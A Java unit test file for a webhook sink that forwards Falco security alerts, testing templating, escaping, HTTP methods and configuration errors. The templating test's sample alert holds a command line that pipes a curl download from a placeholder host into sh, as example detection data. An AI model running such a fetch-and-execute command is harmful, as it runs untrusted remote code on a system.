package dev.vigil.outputs.http;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.vigil.pipeline.ConfigException;
import dev.vigil.pipeline.SendResult;
import dev.vigil.pipeline.Sink;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

class WebhookSinkTest extends ReceiverTestBase {
    private Receiver.Request sendOne(String... kv) throws Exception {
        try (Sink sink = new WebhookFactory().create(Samples.settings("webhook", kv))) {
            SendResult r = sink.send(List.of(Samples.envelope(Samples.alert())));
            assertThat(r.allDelivered()).as("%s", r).isTrue();
        }
        return receiver.only();
    }

    @Test
    void postsTheAlertJson() throws Exception {
        Receiver.Request req = sendOne("url", receiver.url("/falco?x=1").toString());
        assertThat(req.method()).isEqualTo("POST");
        assertThat(req.path()).isEqualTo("/falco?x=1");
        assertThat(req.json()).isEqualTo(JsonTree.parse(Samples.ALERT_JSON));
    }

    @Test
    void putWithTheAddressAlias() throws Exception {
        Receiver.Request req = sendOne("address", receiver.url("/in").toString(), "method", "PUT");
        assertThat(req.method()).isEqualTo("PUT");
        assertThat(req.json()).isEqualTo(JsonTree.parse(Samples.ALERT_JSON));
    }

    @Test
    void aJsonTemplateEscapesValuesAndEmbedsTheWholeAlert() throws Exception {
        Receiver.Request req = sendOne("url", receiver.url("/").toString(), "template", """
                {"title":"{{priority}} {{ rule }}","cmd":"{{output_fields.proc.cmdline}}","out":"{{output}}",\
                "id":"{{uuid}}","at":"{{time}}","tags":"{{tags}}","host":"{{hostname}}","src":"{{source}}",\
                "missing":"{{output_fields.nope}}","alert":{{json}}}""");
        assertThat(req.json()).isEqualTo(Map.ofEntries(
                Map.entry("title", "Warning Terminal shell in container"),
                Map.entry("cmd", "bash -c 'curl -s http://example.invalid/x | sh'"),
                Map.entry("out", Samples.alert().output()),
                Map.entry("id", Samples.UUID),
                Map.entry("at", "2026-11-26T10:00:00.123456789Z"),
                Map.entry("tags", "container,mitre_execution,shell"),
                Map.entry("host", "node-1"),
                Map.entry("src", "syscalls"),
                Map.entry("missing", ""),
                Map.entry("alert", JsonTree.parse(Samples.ALERT_JSON))));
    }

    @Test
    void jsonEscapingKeepsQuotesAndNewlinesInsideTheString() throws Exception {
        var a = Samples.alert();
        var tricky = new dev.vigil.pipeline.FalcoAlert(a.uuid(), a.timeNanos(), a.priority(), "say \"hi\"\nnow", a.source(), a.tags(),
                a.hostname(), a.output(), a.outputFields());
        try (Sink sink = new WebhookFactory().create(Samples.settings("webhook", "url", receiver.url("/").toString(),
                "template", "{\"r\":\"{{rule}}\"}"))) {
            assertThat(sink.send(List.of(Samples.envelope(tricky))).allDelivered()).isTrue();
        }
        assertThat(receiver.only().json()).isEqualTo(Map.of("r", "say \"hi\"\nnow"));
    }

    @Test
    void aTextTemplateIsSentRawWithItsContentType() throws Exception {
        Receiver.Request req = sendOne("url", receiver.url("/").toString(), "contenttype", "text/plain",
                "template", "[{{priority}}] {{rule}}: \"{{output_fields.user.name}}\"");
        assertThat(req.header("Content-Type")).isEqualTo("text/plain");
        assertThat(req.text()).isEqualTo("[Warning] Terminal shell in container: \"root\"");
    }

    @Test
    void templateAndUrlErrorsNameTheOutputAndKey() {
        assertThatThrownBy(() -> new WebhookFactory().create(Samples.settings("webhook", "url", "http://h/", "template", "{{nope}}")))
                .isInstanceOf(ConfigException.class).hasMessageContaining("test-webhook").hasMessageContaining("template")
                .hasMessageContaining("{{nope}}");
        assertThatThrownBy(() -> new WebhookFactory().create(Samples.settings("webhook", "url", "http://h/", "template", "{{rule")))
                .isInstanceOf(ConfigException.class).hasMessageContaining("not closed");
        assertThatThrownBy(() -> new WebhookFactory().create(Samples.settings("webhook", "url", "ftp://h/")))
                .isInstanceOf(ConfigException.class).hasMessageContaining("url");
        assertThatThrownBy(() -> new WebhookFactory().create(Samples.settings("webhook", "method", "GET", "url", "http://h/")))
                .isInstanceOf(ConfigException.class).hasMessageContaining("method");
    }
}
